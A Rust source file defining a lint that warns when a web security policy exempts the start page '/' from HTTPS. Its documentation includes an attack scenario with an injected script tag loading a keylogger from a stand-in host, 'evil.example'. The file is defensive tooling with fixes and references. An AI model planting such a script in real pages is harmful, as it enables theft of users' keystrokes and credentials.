use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for `/` in the `exempt` list of `transport`.
    ///
    /// # Why it matters
    ///
    /// `/` is the page that a browser requests first if a user types the name of the site. An exempt path is answered over http,
    /// and is not checked for its host.
    ///
    /// # Attack
    ///
    /// A user on a public Wi-Fi types `shop.example.com`. The browser requests `http://shop.example.com/`, the server answers over
    /// http, and the attacker adds a script to the page:
    ///
    /// ```html
    /// <script src="http://evil.example/keylogger.js"></script>
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// origin: "https://shop.example.com",
    /// strict_transport_security: { max_age: 2y, include_subdomains },
    /// transport: { exempt: ["/"] },
    /// ```
    ///
    /// # Fix
    ///
    /// ```text
    /// origin: "https://shop.example.com",
    /// strict_transport_security: { max_age: 2y, include_subdomains },
    /// transport: { exempt: ["/healthz"] },
    /// ```
    ///
    /// # Allow
    ///
    /// Reasonable where a load balancer can only check `/`, and the page contains nothing else.
    ///
    /// ```text
    /// origin: "https://shop.example.com",
    /// strict_transport_security: { max_age: 2y, include_subdomains },
    /// #[allow(transport_exempt_page, reason = "the load balancer checks `/`, which is an empty page")]
    /// transport: { exempt: ["/"] },
    /// ```
    ///
    /// # References
    ///
    /// - [RFC 6797, section 7.2: HTTP request type](https://www.rfc-editor.org/rfc/rfc6797#section-7.2)
    /// - [OWASP, Transport Layer Security](https://cheatsheetseries.owasp.org/cheatsheets/Transport_Layer_Security_Cheat_Sheet.html)
    Warn "the start page is answered over http",
    cwe [319], asvs ["12.2.1"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let exempt = policy.transport.iter().flat_map(|transport| &transport.exempt.node);
    for path in exempt.filter(|path| path.node == "/") {
        report.push(
            Diagnostic::finding(path.span, "`/` is exempt, so that the start page is answered over http")
                .help("give health checks a path of their own: `exempt: [\"/healthz\"]`")
                .note("anyone on the network can change the page that a user sees first"),
        );
    }
}
